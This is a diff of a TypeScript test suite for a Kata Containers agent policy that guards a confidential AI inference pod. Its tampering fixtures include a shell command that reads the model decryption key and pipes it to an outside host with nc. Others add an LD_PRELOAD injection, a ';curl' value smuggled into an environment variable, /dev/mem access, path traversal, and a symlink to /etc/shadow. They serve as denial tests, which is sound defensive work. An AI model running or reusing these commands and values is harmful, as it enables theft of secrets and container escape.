@@ -1,100 +1,329 @@
-import { AGENT_REQUESTS, AgentPolicy, isPinnedImage } from '../../src/attestation';
+import { join } from 'node:path';
+import { AGENT_REQUESTS, AgentPolicy, ImageFacts, PodSpec } from '../../src/attestation';
+import { agentAllows, describeWithEngine } from '../helpers/rego-engine';
+import { K8sPod, containerId, copyFiles, createContainer, createPause, createSandbox, imageConfigOf, k8sPodOf, sandboxId } from '../helpers/kata-runtime';
 import { pinned } from './fixtures/values';
 
-/** The JSON Trustee extracts: everything after "policy_data := {" (kbs attestation-service extract_policy_data). */
-function trusteePolicyData(rego: string): unknown {
-  const start = rego.indexOf('policy_data := {');
-  return start < 0 ? undefined : JSON.parse(rego.slice(start + 'policy_data := '.length));
-}
+const FACTS_DIR = join(__dirname, 'fixtures/image');
+const SERVER_IMAGE = 'registry.example.com/team/server:1.4@sha256:6b396131129585ca5c4202dfffa7e14ceb051df1dfc2dc6d87aa56c295610343';
+const facts = ImageFacts.fromDirectory(SERVER_IMAGE, FACTS_DIR);
+const FETCH_IMAGE = pinned('fetch');
 
-/** The `default <Request> := <bool>` lines of a policy. */
-function defaults(rego: string): Record<string, boolean> {
-  const out: Record<string, boolean> = {};
-  for (const m of rego.matchAll(/^default (\w+) := (true|false)$/gm)) out[m[1]] = m[2] === 'true';
-  return out;
-}
+/** A pod like the inference service's: an init container with a command, a server whose command line comes from its image. */
+export const POD: PodSpec = {
+  namespace: 'confidential-ai',
+  name: 'inference',
+  annotations: { 'io.katacontainers.config.hypervisor.machine_type': 'Standard_DC2as_v5' },
+  initContainers: [
+    {
+      name: 'fetch-model',
+      image: FETCH_IMAGE,
+      command: ['/usr/local/bin/fetch-model', '--out', '/models'],
+      env: [
+        { name: 'MODEL_KEY_URL', value: 'http://127.0.0.1:8006/cdh/resource/enkrypt/model/decryption-key' },
+        { name: 'MODEL_URL', value: 'https://models.example.com/model.enc' },
+      ],
+      volumeMounts: [
+        { volume: 'models', mountPath: '/models' },
+        { volume: 'tmp', mountPath: '/tmp' },
+      ],
+      readOnlyRootFilesystem: true,
+      runAsUser: 65532,
+    },
+  ],
+  containers: [
+    {
+      name: 'server',
+      image: SERVER_IMAGE,
+      imageFacts: facts,
+      env: [
+        { name: 'MODEL_KEY_URL', value: 'http://127.0.0.1:8006/cdh/resource/enkrypt/model/decryption-key' },
+        { name: 'MODEL_DIR', value: '/models' },
+      ],
+      volumeMounts: [
+        { volume: 'models', mountPath: '/models', readOnly: true },
+        { volume: 'tmp', mountPath: '/tmp' },
+      ],
+      readOnlyRootFilesystem: true,
+    },
+  ],
+};
 
-describe('restrictive agent policy', () => {
-  const images = [pinned('key-manager'), pinned('sidecar')];
-  const policy = AgentPolicy.restrictive({ allowedImages: images });
+type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- request JSON is mutated freely in tamperings
 
-  test('admits exactly the workload images and pause, as valid JSON Trustee can extract', () => {
-    expect(trusteePolicyData(policy.rego)).toEqual({ allowed_images: ['pause', ...[...images].sort()] });
-    expect(policy.data.allowedImages).toEqual(['pause', ...[...images].sort()]);
+const policy = AgentPolicy.forPod(POD, { workload: 'confidential-ai/inference' });
+const k8s = k8sPodOf(POD);
+const server = (): Json => createContainer(k8s, 'server', imageConfigOf(facts)) as Json;
+const fetch = (): Json => createContainer(k8s, 'fetch-model', {}) as Json;
+const pause = (): Json => createPause(k8s) as Json;
+const allows = (request: string, input: unknown, p: AgentPolicy = policy): boolean => agentAllows(p.rego, request, input);
+const env = (r: Json): string[] => r.OCI.Process.Env;
+
+describeWithEngine('pod agent policy, evaluated as the kata agent does', () => {
+  test('GIVEN the pod WHEN the runtime starts it THEN every request it sends is allowed', () => {
+    expect(allows('CreateSandboxRequest', createSandbox(k8s))).toBe(true);
+    expect(allows('CreateContainerRequest', pause())).toBe(true);
+    for (const name of ['fetch-model', 'server']) {
+      for (const copy of copyFiles(k8s, name)) expect(allows('CopyFileRequest', copy)).toBe(true);
+    }
+    expect(allows('CreateContainerRequest', fetch())).toBe(true);
+    expect(allows('CreateContainerRequest', server())).toBe(true);
+    const cid = containerId(k8s, 'server');
+    for (const [request, input] of [
+      ['GuestDetailsRequest', { mem_block_size: true, mem_hotplug_probe: true }],
+      ['StartContainerRequest', { container_id: cid }],
+      ['WaitProcessRequest', { container_id: cid, exec_id: cid }],
+      ['GetOOMEventRequest', {}],
+      ['StatsContainerRequest', { container_id: cid }],
+      ['SignalProcessRequest', { container_id: cid, exec_id: '', signal: 15 }],
+      ['RemoveContainerRequest', { container_id: cid, timeout: 0 }],
+      ['RemoveStaleVirtiofsShareMountsRequest', {}],
+      ['DestroySandboxRequest', {}],
+    ] as const) {
+      expect([request, allows(request, input)]).toEqual([request, true]);
+    }
   });
 
-  test('names every agent request once, with exec, stdin, logs and policy replacement denied', () => {
-    const d = defaults(policy.rego);
-    expect(Object.keys(d).sort()).toEqual([...AGENT_REQUESTS].sort());
-    expect(d).toMatchObject({
-      CreateContainerRequest: false,
-      ExecProcessRequest: false,
-      SetPolicyRequest: false,
-      ReadStreamRequest: false,
-      WriteStreamRequest: false,
-      CopyFileRequest: true,
-      CreateSandboxRequest: true,
-    });
+  test('the server runs its image entrypoint and CMD, the image ENV and the declared env, as the image facts say', () => {
+    const r = server();
+    expect(r.OCI.Process.Args).toEqual(['/opt/app/bin/server', '--port', '8080']);
+    expect(env(r)).toEqual(expect.arrayContaining(['PATH=/opt/app/bin:/usr/bin:/bin', 'APP_MODE=production', `HOSTNAME=${k8s.name}`, 'MODEL_DIR=/models']));
+    expect(r.OCI.Process.Cwd).toBe('/opt/app');
+    expect(r.OCI.Process.User).toEqual({ UID: 1000, GID: 0, AdditionalGids: [0], Username: '' });
   });
 
-  test('allows container creation only when every storage source is an allowed image', () => {
-    expect(policy.rego).toContain(
-      'CreateContainerRequest if {\n\tevery storage in input.storages {\n\t\tstorage.source in policy_data.allowed_images\n\t}\n}',
-    );
+  test('the kubelet may order the environment at random', () => {
+    const r = server();
+    r.OCI.Process.Env = [...env(r)].reverse();
+    expect(allows('CreateContainerRequest', r)).toBe(true);
   });
 
-  test('policy_data comes last, so Trustee can parse it to the end of the file', () => {
-    expect(policy.rego.trimEnd().endsWith('}')).toBe(true);
-    expect(policy.rego.indexOf('policy_data := {')).toBeGreaterThan(policy.rego.indexOf('CreateContainerRequest if'));
+  test('containerd 1.7 reports the image without its tag; both name the same digest', () => {
+    const r = server();
+    const digestOnly = SERVER_IMAGE.replace(':1.4@', '@');
+    r.OCI.Annotations['io.kubernetes.cri.image-name'] = digestOnly;
+    r.storages[0].source = digestOnly;
+    expect(allows('CreateContainerRequest', r)).toBe(true);
   });
 
-  test('a workload name makes the policy (and so the initdata) unique to the workload', () => {
-    const a = AgentPolicy.restrictive({ allowedImages: images, workload: 'confidential-ai/key-manager' });
-    const b = AgentPolicy.restrictive({ allowedImages: images, workload: 'confidential-ai/other' });
-    expect(trusteePolicyData(a.rego)).toEqual({ allowed_images: ['pause', ...[...images].sort()], workload: 'confidential-ai/key-manager' });
-    expect(a.rego).not.toBe(b.rego);
-    expect(() => AgentPolicy.restrictive({ allowedImages: images, workload: 'Bad Name"' })).toThrow(/workload: must be lowercase letters/);
+  const containerTamperings: Array<[string, (r: Json) => void]> = [
+    ['other args (a shell that sends a CDH resource out)', (r) => (r.OCI.Process.Args = ['sh', '-c', 'wget -qO- 127.0.0.1:8006/cdh/resource/enkrypt/model/decryption-key | nc 10.0.0.9 80'])],
+    ['one extra argument', (r) => r.OCI.Process.Args.push('--debug')],
+    ['LD_PRELOAD', (r) => env(r).push('LD_PRELOAD=/tmp/evil.so')],
+    ['an extra variable', (r) => env(r).push('APP_MODE_OVERRIDE=1')],
+    ['a declared variable with another value', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('MODEL_KEY_URL=') ? 'MODEL_KEY_URL=http://10.0.0.9/' : e)))],
+    ['a declared variable removed', (r) => (r.OCI.Process.Env = env(r).filter((e) => !e.startsWith('MODEL_DIR=')))],
+    ['the image PATH replaced', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('PATH=') ? 'PATH=/tmp:/usr/bin' : e)))],
+    ['HOSTNAME of another pod', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('HOSTNAME=') ? 'HOSTNAME=evil' : e)))],
+    ['an API service variable that is not an address', (r) => env(r).push('KUBERNETES_SERVICE_PORT=443;curl')],
+    ['empty storages', (r) => (r.storages = [])],
+    ['no image storage', (r) => (r.storages = r.storages.filter((s: Json) => s.driver !== 'image_guest_pull'))],
+    ['another approved image (the init container\'s)', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = FETCH_IMAGE)],
+    ['another digest', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = pinned('evil'))],
+    ['an unpinned image', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = 'registry.example.com/team/server:1.4')],
+    ['the pulled image differs from the annotation', (r) => (r.storages[0].source = pinned('evil'))],
+    ['a second image storage', (r) => r.storages.push({ ...r.storages[0], source: pinned('evil'), mount_point: '/run/kata-containers/x/rootfs' })],
+    ['image metadata that says sandbox', (r) => (r.storages[0].driver_options = [r.storages[0].driver_options[0].replace('"io.kubernetes.cri.container-type":"container"', '"io.kubernetes.cri.container-type":"sandbox"')])],
+    ['the image mounted outside the rootfs', (r) => (r.storages[0].mount_point = '/run/kata-containers/shared/containers/x')],
+    ['a rootfs the host copied in', (r) => (r.OCI.Root.Path = `/run/kata-containers/shared/containers/${r.container_id}/rootfs`)],
+    ['a writable root filesystem', (r) => (r.OCI.Root.Readonly = false)],
+    ['added capabilities', (r) => (r.OCI.Process.Capabilities = { ...r.OCI.Process.Capabilities, Bounding: ['CAP_SYS_ADMIN'], Effective: ['CAP_SYS_ADMIN'], Permitted: ['CAP_SYS_ADMIN'] })],
+    ['an ambient capability', (r) => (r.OCI.Process.Capabilities.Ambient = ['CAP_NET_RAW'])],
+    ['privilege escalation', (r) => (r.OCI.Process.NoNewPrivileges = false)],
+    ['root', (r) => (r.OCI.Process.User = { UID: 0, GID: 0, AdditionalGids: [0], Username: '' })],
+    ['another group', (r) => (r.OCI.Process.User.AdditionalGids = [0, 6])],
+    ['an extra host mount', (r) => r.OCI.Mounts.push({ destination: '/host', source: `/run/kata-containers/shared/containers/${r.container_id}-0123456789abcdef-host`, type_: 'bind', options: ['rbind', 'rprivate', 'rw'] })],
+    ['a copied file mounted over the binary', (r) => r.OCI.Mounts.push({ destination: '/opt/app/bin/server', source: `/run/kata-containers/shared/containers/${r.container_id}-0123456789abcdef-hosts`, type_: 'bind', options: ['rbind', 'rprivate', 'ro'] })],
+    ['/etc/hosts from another container\'s file', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/etc/hosts').source = `/run/kata-containers/shared/containers/${sandboxId(k8s)}-0123456789abcdef-hosts`)],
+    ['a volume mounted writable where it is read-only', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/models').options = ['rbind', 'rprivate', 'rw'])],
+    ['a declared volume not mounted', (r) => (r.OCI.Mounts = r.OCI.Mounts.filter((m: Json) => m.destination !== '/tmp'))],
+    ['a mount option added', (r) => r.OCI.Mounts.find((m: Json) => m.destination === '/proc').options.push('rw')],
+    ['a volume from another path', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/tmp').source = '/run/kata-containers/shared/containers/x/rootfs/local/tmp')],
+    ['an extra local storage', (r) => r.storages.push({ ...r.storages[1], mount_point: r.storages[1].mount_point.replace(/[^/]+$/, 'other') })],
+    ['local storage options changed', (r) => (r.storages[1].options = ['mode=0777', 'fsgid=0'])],
+    ['another namespace', (r) => (r.OCI.Annotations['io.kubernetes.cri.sandbox-namespace'] = 'default')],
+    ['a pod of another Deployment', (r) => (r.OCI.Annotations['io.kubernetes.cri.sandbox-name'] = 'other-7c56d66754-pq9qp')],
+    ['an unknown container name', (r) => (r.OCI.Annotations['io.kubernetes.cri.container-name'] = 'debugger')],
+    ['the init container\'s name (its command line differs)', (r) => (r.OCI.Annotations['io.kubernetes.cri.container-name'] = 'fetch-model')],
+    ['a cloud volume the forwarder would format and mount', (r) => (r.OCI.Annotations['io.confidentialcontainers.org.cloud_volumes'] = '{"vol-0":{"mount_point":"/data","lun":"0"}}')],
+    ['a CDI device annotation', (r) => (r.OCI.Annotations['cdi.k8s.io/peer-pods'] = 'nvidia.com/gpu=all')],
+    ['an OCI hook', (r) => (r.OCI.Hooks = { Prestart: [{ Path: '/bin/sh', Args: ['sh', '-c', 'id'], Env: [], Timeout: 0 }], CreateRuntime: [], CreateContainer: [], StartContainer: [], Poststart: [], Poststop: [] })],
+    ['a device', (r) => r.OCI.Linux.Devices.push({ Path: '/dev/mem', Type: 'c', Major: 1, Minor: 1, FileMode: 438, UID: 0, GID: 0 })],
+    ['the VM\'s pid namespace', (r) => r.OCI.Linux.Namespaces.push({ Type: 'pid', Path: '/proc/1/ns/pid' })],
+    ['no mount namespace', (r) => (r.OCI.Linux.Namespaces = r.OCI.Linux.Namespaces.filter((n: Json) => n.Type !== 'mount'))],
+    ['another network namespace', (r) => (r.OCI.Linux.Namespaces.find((n: Json) => n.Type === 'network').Path = '/proc/1/ns/net')],
+    ['the sandbox pid namespace', (r) => (r.sandbox_pidns = true)],
+    ['an unmasked /proc/kcore', (r) => (r.OCI.Linux.MaskedPaths = r.OCI.Linux.MaskedPaths.filter((p: string) => p !== '/proc/kcore'))],
+    ['a sysctl', (r) => (r.OCI.Linux.Sysctl = { 'kernel.core_pattern': '|/tmp/x' })],
+    ['an rlimit', (r) => r.OCI.Process.Rlimits.push({ Type: 'RLIMIT_CORE', Hard: 1e9, Soft: 1e9 })],
+    ['a terminal', (r) => (r.OCI.Process.Terminal = true)],
+    ['another working directory', (r) => (r.OCI.Process.Cwd = '/tmp')],
+    ['a path in the container id', (r) => (r.container_id = r.exec_id = '../../../etc')],
+  ];
+
+  test.each(containerTamperings)('denies a container with %s', (_name, tamper) => {
+    const r = server();
+    tamper(r);
+    expect(allows('CreateContainerRequest', r)).toBe(false);
   });
 
-  test('log streaming is allowed only when asked', () => {
-    expect(defaults(AgentPolicy.restrictive({ allowedImages: images, allowLogStreaming: true }).rego).ReadStreamRequest).toBe(true);
+  const pauseTamperings: Array<[string, (r: Json) => void]> = [
+    ['metadata that says container (the host\'s image and process would run)', (r) => (r.storages[0].driver_options = [r.storages[0].driver_options[0].replace('"io.kubernetes.cri.container-type":"sandbox"', '"io.kubernetes.cri.container-type":"container"')])],
+    ['an image instead of the VM\'s pause bundle', (r) => (r.storages[0].source = pinned('evil'))],
+    ['an extra storage', (r) => r.storages.push({ driver: 'local', driver_options: [], source: 'local', fstype: 'local', options: ['mode=0777'], mount_point: `/run/kata-containers/shared/containers/${r.container_id}/rootfs/local/x`, fs_group: null, shared: false })],
+    ['an extra mount', (r) => r.OCI.Mounts.push({ destination: '/data', source: `/run/kata-containers/shared/containers/${r.container_id}-0123456789abcdef-data`, type_: 'bind', options: ['rbind'] })],
+    ['a sandbox id that is not its own', (r) => (r.OCI.Annotations['io.kubernetes.cri.sandbox-id'] = 'f'.repeat(64))],
+    ['a container name', (r) => (r.OCI.Annotations['io.kubernetes.cri.container-name'] = 'server')],
+    ['another sysctl', (r) => (r.OCI.Linux.Sysctl['kernel.shm_rmid_forced'] = '0')],
+    ['a writable root', (r) => (r.OCI.Root.Readonly = false)],
+  ];
+
+  test.each(pauseTamperings)('denies a pause container with %s', (_name, tamper) => {
+    const r = pause();
+    tamper(r);
+    expect(allows('CreateContainerRequest', r)).toBe(false);
   });
 
-  test('the template is the same whatever the images: only policy_data differs', () => {
-    const other = AgentPolicy.restrictive({ allowedImages: [pinned('other')] });
-    const head = (r: string): string => r.slice(0, r.indexOf('policy_data := {'));
-    expect(head(other.rego)).toBe(head(policy.rego));
+  const sandboxTamperings: Array<[string, (r: Json) => void]> = [
+    ['a guest hook path', (r) => (r.guest_hook_path = '/usr/share/oci/hooks')],
+    ['kernel modules', (r) => (r.kernel_modules = ['evil'])],
+    ['a shared pid namespace', (r) => (r.sandbox_pidns = true)],
+    ['another pod\'s hostname', (r) => (r.hostname = 'other-7c56d66754-pq9qp')],
+    ['an extra storage', (r) => r.storages.push({ ...r.storages[0], mount_point: '/run/kata-containers/sandbox/x' })],
+  ];
+
+  test.each(sandboxTamperings)('denies a sandbox with %s', (_name, tamper) => {
+    const r = createSandbox(k8s) as Json;
+    tamper(r);
+    expect(allows('CreateSandboxRequest', r)).toBe(false);
+  });
+
+  const copy = (): Json => copyFiles(k8s, 'server')[0] as Json;
+  test.each<[string, (r: Json) => void]>([
+    ['outside the shared directory', (r) => (r.path = '/etc/ld.so.preload')],
+    ['with a traversal', (r) => (r.path = `/run/kata-containers/shared/containers/../../../etc/${'a'.repeat(64)}-0123456789abcdef-hosts`)],
+    ['into a container rootfs', (r) => (r.path = `/run/kata-containers/shared/containers/${containerId(k8s, 'server')}/rootfs/usr/bin/x`)],
+    ['of a file the pod does not mount', (r) => (r.path = r.path.replace(/hosts$/, 'serviceaccount'))],
+    ['of a directory', (r) => (r.file_type = 'Directory')],
+    ['of a symlink', (r) => Object.assign(r, { file_type: 'Symlink', symlink_target: '/etc/shadow' })],
+  ])('denies a file copy %s', (_name, tamper) => {
+    const r = copy();
+    tamper(r);
+    expect(allows('CopyFileRequest', r)).toBe(false);
   });
 
   test.each([
-    ['a tag', 'example.azurecr.io/app:1.0'],
-    ['no registry host', 'app@sha256:' + 'a'.repeat(64)],
-    ['a short digest', 'example.azurecr.io/app@sha256:abc'],
-    ['a newline', `${pinned('x')}\n}`],
-    ['a quote', `example.azurecr.io/a"b@sha256:${'a'.repeat(64)}`],
-  ])('fails when an image has %s', (_n, image) => {
-    expect(() => AgentPolicy.restrictive({ allowedImages: [image] })).toThrow(/allowedImages\[0\]: must be a fully qualified image pinned by digest/);
+    ['ExecProcessRequest', { container_id: containerId(k8s, 'server'), exec_id: 'x', process: { Args: ['sh'], Env: [], Cwd: '/' } }],
+    ['SetPolicyRequest', { policy: 'package agent_policy\ndefault CreateContainerRequest := true\n' }],
+    ['WriteStreamRequest', { container_id: containerId(k8s, 'server'), exec_id: '', data: [] }],
+    ['CloseStdinRequest', { container_id: containerId(k8s, 'server'), exec_id: '' }],
+    ['ReadStreamRequest', { container_id: containerId(k8s, 'server'), exec_id: '', len: 1024 }],
+    ['UpdateContainerRequest', { container_id: containerId(k8s, 'server') }],
+    ['UpdateRoutesRequest', { routes: { Routes: [] } }],
+    ['UpdateInterfaceRequest', { interface: { name: 'eth0' } }],
+    ['SetGuestDateTimeRequest', { Sec: 0, Usec: 0 }],
+    ['ReseedRandomDevRequest', { data: [] }],
+    ['SetIPTablesRequest', { is_ipv6: false, data: [] }],
+    ['GetDiagnosticDataRequest', { log_type: 'termination_log', container_id: containerId(k8s, 'server') }],
+    ['PauseContainerRequest', { container_id: containerId(k8s, 'server') }],
+    ['MemAgentMemcgConfig', {}],
+  ])('denies %s', (request, input) => {
+    expect(allows(request, input)).toBe(false);
   });
 
-  test('fails when no image is given', () => {
-    expect(() => AgentPolicy.restrictive({ allowedImages: [] })).toThrow(/allowedImages: must name at least one image/);
+  test('log streaming is allowed only when asked', () => {
+    const logs = AgentPolicy.forPod(POD, { allowLogStreaming: true });
+    expect(allows('ReadStreamRequest', { container_id: containerId(k8s, 'server'), exec_id: '', len: 1024 }, logs)).toBe(true);
   });
 
-  test('accepts a tag together with a digest and a registry port', () => {
-    expect(isPinnedImage(`registry.local:5000/team/app:1.2@sha256:${'0'.repeat(64)}`)).toBe(true);
+  test('a policy does not admit the pod of another policy: two workloads with the same images stay apart', () => {
+    const other = AgentPolicy.forPod({ ...POD, name: 'inference-b' });
+    expect(allows('CreateContainerRequest', server(), other)).toBe(false);
+    const k8sB: K8sPod = k8sPodOf({ ...POD, name: 'inference-b' });
+    expect(allows('CreateContainerRequest', createContainer(k8sB, 'server', imageConfigOf(facts)), other)).toBe(true);
+  });
+
+  test('AllowRequestsFailingPolicy is false', () => {
+    expect(allows('AllowRequestsFailingPolicy', {})).toBe(false);
   });
 });
 
-describe('development presets', () => {
-  test('allow-all-except-exec denies only exec', () => {
-    const d = defaults(AgentPolicy.allowAllExceptExecInsecure().rego);
-    expect(Object.entries(d).filter(([, v]) => !v).map(([k]) => k)).toEqual(['ExecProcessRequest']);
-    expect(AgentPolicy.allowAllExceptExecInsecure().isInsecure).toBe(true);
+describeWithEngine('development presets, evaluated', () => {
+  test('allow-all allows every request the agent asks about', () => {
+    const all = AgentPolicy.allowAllInsecure();
+    for (const request of AGENT_REQUESTS) expect([request, allows(request, {}, all)]).toEqual([request, true]);
+    expect(all.isInsecure).toBe(true);
   });
 
-  test('allow-all allows everything and has no policy_data', () => {
-    const rego = AgentPolicy.allowAllInsecure().rego;
-    expect(Object.values(defaults(rego)).every(Boolean)).toBe(true);
-    expect(trusteePolicyData(rego)).toBeUndefined();
+  test('allow-all-except-exec denies only exec', () => {
+    const p = AgentPolicy.allowAllExceptExecInsecure();
+    const denied = AGENT_REQUESTS.filter((r) => !allows(r, {}, p));
+    expect(denied).toEqual(['ExecProcessRequest']);
+  });
+});
+
+describe('pod agent policy, as text and data', () => {
+  /** The JSON Trustee extracts: everything after "policy_data := {" (attestation-service extract_policy_data). */
+  const trusteePolicyData = (rego: string): Json => JSON.parse(rego.slice(rego.indexOf('policy_data := {') + 'policy_data := '.length));
+
+  test('policy_data comes last and is the JSON Trustee extracts, naming the workload, images and command lines', () => {
+    const data = trusteePolicyData(policy.rego);
+    expect(data.workload).toBe('confidential-ai/inference');
+    expect(data.pod).toEqual({
+      namespace: 'confidential-ai',
+      name: '^inference-[bcdfghjklmnpqrstvwxz2456789]{1,10}-[bcdfghjklmnpqrstvwxz2456789]{5}$',
+      annotations: {
+        'io.katacontainers.config.hypervisor.cc_init_data': '^[A-Za-z0-9+/]*={0,2}$',
+        'io.katacontainers.config.hypervisor.machine_type': '^Standard_DC2as_v5$',
+      },
+    });
+    expect(data.containers.map((c: Json) => [c.name, c.args])).toEqual([
+      ['fetch-model', ['/usr/local/bin/fetch-model', '--out', '/models']],
+      ['server', ['/opt/app/bin/server', '--port', '8080']],
+    ]);
+    expect(policy.data.images).toEqual([FETCH_IMAGE, SERVER_IMAGE, SERVER_IMAGE.replace(':1.4@', '@')]);
+  });
+
+  test('every agent request has exactly one default', () => {
+    for (const request of AGENT_REQUESTS) expect(policy.rego.match(new RegExp(`^default ${request} := (true|false)$`, 'gm'))).toHaveLength(1);
+  });
+
+  test('the rules are one fixed template: two pods differ only in policy_data', () => {
+    const head = (r: string): string => r.slice(0, r.indexOf('policy_data := {'));
+    expect(head(AgentPolicy.forPod({ ...POD, namespace: 'other', name: 'x' }).rego)).toBe(head(policy.rego));
+  });
+
+  test('the same pod renders the same bytes', () => {
+    expect(AgentPolicy.forPod(POD, { workload: 'confidential-ai/inference' }).rego).toBe(policy.rego);
+  });
+});
+
+describe('pod agent policy, bad input', () => {
+  const withServer = (patch: Partial<PodSpec['containers'][number]>): PodSpec => ({ ...POD, containers: [{ ...POD.containers[0], ...patch }] });
+
+  test('fails when a container has neither a command nor image facts, saying how to save them', () => {
+    expect(() => AgentPolicy.forPod(withServer({ imageFacts: undefined }))).toThrow(/containers\[0\].command: is required when the image's entrypoint is not known: .*crane manifest/);
+  });
+
+  test('fails when the image facts belong to another image', () => {
+    expect(() => AgentPolicy.forPod(withServer({ image: pinned('server') }))).toThrow(/containers\[0\].imageFacts: describe registry.example.com\/team\/server:1.4@sha256:6b39.*, not example.azurecr.io\/server@sha256/);
+  });
+
+  test('fails when the user is not known', () => {
+    expect(() => AgentPolicy.forPod({ ...POD, initContainers: [{ ...POD.initContainers[0], runAsUser: undefined }] })).toThrow(/initContainers\[0\].runAsUser: is required/);
+  });
+
+  test('fails on values the kubelet would rewrite', () => {
+    expect(() => AgentPolicy.forPod(withServer({ env: [{ name: 'A', value: '$(HOME)/x' }] }))).toThrow(/containers\[0\].env.A: contains "\$\(" or "\$\$"/);
+    expect(() => AgentPolicy.forPod(withServer({ args: ['cost: $$5'] }))).toThrow(/containers\[0\].args\[0\]: contains/);
+  });
+
+  test('fails when a Deployment name is too long to be pinned in pod names', () => {
+    expect(() => AgentPolicy.forPod({ ...POD, name: 'a'.repeat(47) })).toThrow(/name: must be at most 46 characters, got 47/);
+  });
+
+  test('fails on two containers with one name, or two mounts at one path', () => {
+    expect(() => AgentPolicy.forPod({ ...POD, initContainers: [{ ...POD.initContainers[0], name: 'server' }] })).toThrow(/containers: name "server" is used twice/);
+    expect(() => AgentPolicy.forPod(withServer({ volumeMounts: [{ volume: 'a', mountPath: '/etc/hosts' }] }))).toThrow(/containers\[0\].volumeMounts: mount path "\/etc\/hosts" is used twice, or by the runtime itself/);
   });
 });
